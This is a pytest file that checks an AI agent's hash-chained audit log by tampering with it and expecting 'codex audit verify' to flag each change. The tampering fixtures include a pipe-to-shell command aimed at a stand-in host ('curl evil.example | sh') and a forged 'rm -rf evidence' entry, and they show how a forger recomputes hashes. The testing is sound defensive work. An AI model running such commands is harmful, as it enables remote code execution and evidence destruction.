"""Real tampering with the audit files under a temporary CODEX_HOME, each found and named by the real
`codex audit verify` process with exit 1: an edited or dropped last line, dropped first lines, a deleted or
renamed month file, a forged append with recomputed hashes, a rewritten chain, and a deleted or broken head."""

from __future__ import annotations

import hashlib
import json
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from agent.audit import HEAD_FILE, AuditLog, audit_files, read_head
from agent.redact import Redactor
from tests.conftest import CodexRun, RunCodex


class Clock:
    """A settable clock; each reading advances one second."""

    def __init__(self, start: datetime) -> None:
        self.now = start

    def __call__(self) -> datetime:
        self.now += timedelta(seconds=1)
        return self.now


def write_log(home: Path, n: int, start: datetime = datetime(2026, 11, 3, 9, 0, tzinfo=UTC)) -> AuditLog:
    log = AuditLog(home, Redactor(), session_id="s1", clock=Clock(start))
    for i in range(n):
        log.command(["echo", str(i)], "/work", 0, "completed", True)
    return log


def two_months(home: Path) -> tuple[Path, Path]:
    """Two lines in October, four in November."""
    write_log(home, 6, datetime(2026, 10, 31, 23, 59, 57, tzinfo=UTC))
    october, november = audit_files(home / "audit")
    return october, november


def raw_lines(path: Path) -> list[bytes]:
    return path.read_bytes().split(b"\n")[:-1]


def put_lines(path: Path, lines: list[bytes]) -> None:
    path.write_bytes(b"".join(line + b"\n" for line in lines))


def sha(raw: bytes) -> str:
    return hashlib.sha256(raw).hexdigest()


def encode(record: dict) -> bytes:
    return json.dumps(record, ensure_ascii=False, separators=(",", ":")).encode()


def rechain(lines: list[bytes], prev: str) -> list[bytes]:
    """What a forger does: recompute every prev so the chain is consistent again."""
    out = []
    for raw in lines:
        record = json.loads(raw)
        record["prev"] = prev
        out.append(encode(record))
        prev = sha(out[-1])
    return out


def verify(run_codex: RunCodex, cwd: Path) -> CodexRun:
    return run_codex(["audit", "verify"], cwd)


def broken(run: CodexRun) -> list[str]:
    assert run.returncode == 1, (run.stdout, run.stderr)
    lines = run.stdout.splitlines()
    assert lines and all(line.startswith("BROKEN: ") for line in lines), run.stdout
    return lines


def test_an_intact_log_prints_its_line_count_and_head_hash(codex_home: Path, tmp_path: Path,
                                                           run_codex: RunCodex) -> None:
    _, november = two_months(codex_home)
    run = verify(run_codex, tmp_path)
    assert run.returncode == 0, run.stdout
    assert run.stdout == f"OK: 6 lines, head {sha(raw_lines(november)[-1])}\n"
    head = read_head(codex_home / "audit")
    assert head is not None and head.hash == sha(raw_lines(november)[-1]) and head.lines == 6
    assert [(f.name, f.lines, f.first_seq, f.last_seq) for f in head.files] == [
        ("audit-2026-10.jsonl", 2, 1, 2), ("audit-2026-11.jsonl", 4, 3, 6)]


def test_an_empty_audit_directory_without_a_head_is_ok(codex_home: Path, tmp_path: Path,
                                                       run_codex: RunCodex) -> None:
    (codex_home / "audit").mkdir()
    run = verify(run_codex, tmp_path)
    assert (run.returncode, run.stdout) == (0, "OK: 0 lines (nothing recorded yet)\n")


def edit_last_line(october: Path, november: Path) -> list[str]:
    lines = raw_lines(november)
    put_lines(november, [*lines[:-1], lines[-1].replace(b'"exit_code":0', b'"exit_code":1')])
    return [f"{november}: line 4, the last, is not the line the head records"]


def drop_last_line(october: Path, november: Path) -> list[str]:
    put_lines(november, raw_lines(november)[:-1])
    return [f"{november}: ends at seq 5 (line 3), but the head records seq 6: the last line was removed?"]


def drop_first_lines(october: Path, november: Path) -> list[str]:
    put_lines(october, [])
    put_lines(november, raw_lines(november)[2:])
    return [f"{october}: has no lines, but the head records 2 (seq 1 to 2): emptied?",
            f"{november}: line 1 has seq 5, but the head records that the file starts at seq 3: "
            "the first 2 lines were removed?"]


def delete_a_file(october: Path, november: Path) -> list[str]:
    october.unlink()
    return [f"{october}: is missing: the head records 2 lines in it, seq 1 to 2 (deleted or renamed?)"]


def delete_every_file(october: Path, november: Path) -> list[str]:
    october.unlink()
    november.unlink()
    return [f"{october}: is missing", f"{november}: is missing"]


def rename_a_month_file(october: Path, november: Path) -> list[str]:
    december = november.with_name("audit-2026-12.jsonl")
    november.rename(december)
    return [f"{december}: line 1 was written in 2026-11, but the file is named for 2026-12 (renamed?)",
            f"{november}: is missing", f"{december}: is not in the head record"]


def forge_an_append(october: Path, november: Path) -> list[str]:
    lines = raw_lines(november)
    last = json.loads(lines[-1])
    forged = {**last, "seq": last["seq"] + 1, "argv": ["rm", "-rf", "evidence"], "prev": sha(lines[-1])}
    put_lines(november, [*lines, encode(forged)])
    return [f"{november}: line 5 (seq 7) is past the last line the head records (seq 6): appended without the agent?"]


def rewrite_the_whole_chain(october: Path, november: Path) -> list[str]:
    old, new = raw_lines(october), raw_lines(november)
    old[1] = old[1].replace(b'"echo"', b'"curl evil.example | sh"')
    lines = rechain([*old, *new], json.loads(old[0])["prev"])
    put_lines(october, lines[:2])
    put_lines(november, lines[2:])
    return [f"{october}: line 2, the last, is not the line the head records",
            f"{november}: line 4, the last, is not the line the head records"]


def rewrite_the_chain_without_the_first_lines(october: Path, november: Path) -> list[str]:
    october.unlink()
    lines = [json.loads(raw) for raw in raw_lines(november)]
    for seq, record in enumerate(lines, 1):
        record["seq"] = seq
    put_lines(november, rechain([encode(r) for r in lines], "0" * 64))
    return [f"{october}: is missing",
            f"{november}: line 1 has seq 1, but the head records that the file starts at seq 3",
            f"{november}: ends at seq 4 (line 4), but the head records seq 6"]


def delete_the_head(october: Path, november: Path) -> list[str]:
    (october.parent / HEAD_FILE).unlink()
    return [f"{october.parent / HEAD_FILE}: is missing, but 2 audit files hold 6 lines (deleted?)"]


def break_the_head(october: Path, november: Path) -> list[str]:
    (october.parent / HEAD_FILE).write_text('{"version": 1, "seq": "six"}\n')
    return [f"{october.parent / HEAD_FILE}: is not a head record"]


Tamper = Callable[[Path, Path], list[str]]


@pytest.mark.parametrize("tamper", [
    edit_last_line, drop_last_line, drop_first_lines, delete_a_file, delete_every_file, rename_a_month_file,
    forge_an_append, rewrite_the_whole_chain, rewrite_the_chain_without_the_first_lines, delete_the_head,
    break_the_head,
], ids=lambda tamper: tamper.__name__)
def test_tampering_is_named_by_codex_audit_verify(codex_home: Path, tmp_path: Path, run_codex: RunCodex,
                                                  tamper: Tamper) -> None:
    october, november = two_months(codex_home)
    assert verify(run_codex, tmp_path).returncode == 0
    expected = tamper(october, november)
    problems = broken(verify(run_codex, tmp_path))
    for text in expected:
        assert any(f"BROKEN: {text}" in line for line in problems), (text, problems)


def test_an_edited_last_line_stays_visible_after_the_agent_appends_again(codex_home: Path, tmp_path: Path,
                                                                          run_codex: RunCodex) -> None:
    log = write_log(codex_home, 4)
    [path] = audit_files(codex_home / "audit")
    lines = raw_lines(path)
    put_lines(path, [*lines[:-1], lines[-1].replace(b'"exit_code":0', b'"exit_code":1')])
    log.prompt("the next turn")  # chains to the hash the head recorded, not to the edited line
    assert json.loads(raw_lines(path)[-1])["prev"] == sha(lines[-1])
    assert broken(verify(run_codex, tmp_path)) == [
        f"BROKEN: {path}: line 5: prev hash does not match line 4 (line 4 was changed?)"]


def test_a_dropped_last_line_stays_visible_after_the_agent_appends_again(codex_home: Path, tmp_path: Path,
                                                                          run_codex: RunCodex) -> None:
    log = write_log(codex_home, 4)
    [path] = audit_files(codex_home / "audit")
    put_lines(path, raw_lines(path)[:-1])
    log.prompt("the next turn")
    assert broken(verify(run_codex, tmp_path)) == [
        f"BROKEN: {path}: line 4: prev hash does not match line 3 (seq jumps from 3 to 5: a line was deleted?)",
        f"BROKEN: {path}: has 4 lines, but the head records 5"]


def test_a_head_deleted_before_the_next_write_is_rebuilt_and_the_rebuild_is_reported(
        codex_home: Path, tmp_path: Path, run_codex: RunCodex) -> None:
    log = write_log(codex_home, 3)
    (codex_home / "audit" / HEAD_FILE).unlink()
    log.prompt("the next turn")
    [path] = audit_files(codex_home / "audit")
    kinds = [json.loads(raw)["kind"] for raw in raw_lines(path)]
    assert kinds == ["command", "command", "command", "head_rebuilt", "prompt"]
    assert broken(verify(run_codex, tmp_path)) == [
        f"BROKEN: {path}: line 4: the writer found no usable head (head.json was missing) and rebuilt it from the "
        "files, so the lines before seq 4 are not anchored by the head"]


def test_one_file_is_checked_against_its_entry_in_the_head(codex_home: Path, tmp_path: Path,
                                                          run_codex: RunCodex) -> None:
    october, november = two_months(codex_home)
    assert run_codex(["audit", "verify", str(november)], tmp_path).returncode == 0
    put_lines(november, raw_lines(november)[:-1])
    run = run_codex(["audit", "verify", str(november)], tmp_path)
    assert broken(run) == [f"BROKEN: {november}: ends at seq 5 (line 3), but the head records seq 6: the last line "
                           "was removed?"]


def test_retired_month_files_leave_the_chain_and_the_rest_still_verifies(codex_home: Path, tmp_path: Path,
                                                                         run_codex: RunCodex) -> None:
    october, november = two_months(codex_home)
    run = run_codex(["audit", "retire", "--before", "2026-11"], tmp_path)
    assert run.returncode == 0, run.stderr
    retired = codex_home / "audit" / "retired" / october.name
    assert run.stdout.startswith(f"retired {october.name} (2 lines, seq 1 to 2, last sha256 ")
    assert not october.exists() and retired.exists()
    newest = audit_files(codex_home / "audit")[-1]  # this month's file: retire writes with the real clock
    assert json.loads(raw_lines(newest)[-1])["kind"] == "files_retired"
    verified = verify(run_codex, tmp_path)
    assert verified.returncode == 0 and verified.stdout.startswith("OK: 5 lines, head "), verified.stdout
    assert run_codex(["audit", "verify", str(retired)], tmp_path).returncode == 0  # still checkable on its own
    put_lines(november, raw_lines(november)[1:])  # dropping lines after a retirement is still caught
    assert broken(verify(run_codex, tmp_path))


def test_retire_keeps_the_newest_file_and_wants_a_month(codex_home: Path, tmp_path: Path,
                                                        run_codex: RunCodex) -> None:
    two_months(codex_home)
    every = run_codex(["audit", "retire", "--before", "2027-01"], tmp_path)
    assert every.returncode != 0 and "also the newest, audit-2026-11.jsonl" in every.stderr
    assert run_codex(["audit", "retire", "--before", "2026-13"], tmp_path).returncode != 0
    nothing = run_codex(["audit", "retire", "--before", "2026-10"], tmp_path)
    assert nothing.returncode == 0 and nothing.stdout.startswith("nothing to retire")
    assert verify(run_codex, tmp_path).returncode == 0
